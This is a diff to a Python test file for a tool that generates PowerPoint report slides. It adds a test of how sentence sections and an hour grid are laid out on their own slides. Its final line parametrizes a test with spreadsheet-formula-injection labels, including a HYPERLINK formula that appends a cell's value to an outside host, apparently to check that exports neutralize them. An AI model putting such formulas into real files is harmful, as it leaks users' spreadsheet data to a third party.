@@ -1,6 +1,7 @@
 """Slides read back: charts that PowerPoint can edit hold the very values of the view."""
 
 import io
+from dataclasses import replace
 from datetime import date
 
 import pytest
@@ -9,10 +10,12 @@ from pptx import Presentation
 from pptx.enum.chart import XL_CHART_TYPE
 from pptx.presentation import Presentation as Slides
 
+from callboard.drawing import inks
 from callboard.services.taking.slide_charts import add_dots
 from callboard.services.taking.slide_parts import Box
 from callboard.services.taking.slides_file import LONGEST_TITLE, write_slides
-from callboard.views import ReportDot, ReportDots
+from callboard.views import ReportDot, ReportDots, ReportSection
+from callboard.views.report import ReportGrid, ReportShade
 from tests.sample_reports import DAYS, VALUES, report
 
 
@@ -97,6 +100,23 @@ def test_nothing_is_longer_than_its_place(slides: Slides) -> None:
             assert shape.top + shape.height <= slides.slide_height
     table = next(s.table for s in slides.slides[1].shapes if s.has_table)
     assert max(len(cell.text_frame.text) for cell in table.iter_cells()) <= 120
+
+
+def test_sentences_and_a_grid_have_slides_of_their_own() -> None:
+    sentences = ReportSection(title="Outlook", verdict="", told=("It will end at 92 %.",))
+    shades = ((ReportShade(depth=1.0, sign="▼"), None),)
+    grid = ReportGrid(title="Hours", rows=("Mon",), columns=("09", "10"), shades=shades, alt="Mon.")
+    worst = "Worst: Monday 10:00 to 11:00, 75 of 100, no clear difference."
+    hours = ReportSection(title="Hours", verdict=f"{worst} {'x' * 160}", chart=grid)
+    chapter = replace(report().chapters[0], sections=(sentences, hours))
+    made = write_slides(replace(report(), chapters=(chapter,)))
+    told, drawn = list(Presentation(io.BytesIO(made)).slides)[-2:]
+    assert "It will end at 92 %." in words(told)
+    assert worst == drawn.shapes.title.text_frame.text
+    (table,) = (shape.table for shape in drawn.shapes if shape.has_table)
+    fills = [str(table.cell(1, at).fill.fore_color.rgb) for at in (1, 2)]
+    assert [inks.DEEP[1:].upper(), "FFFFFF"] == fills
+    assert ["▼", ""] == [table.cell(1, at).text_frame.text for at in (1, 2)]
 
 
 @pytest.mark.parametrize("label", ['=HYPERLINK("//e.co/"&B3,"Acme")', "http://e.co/?a", "@SUM(1)"])
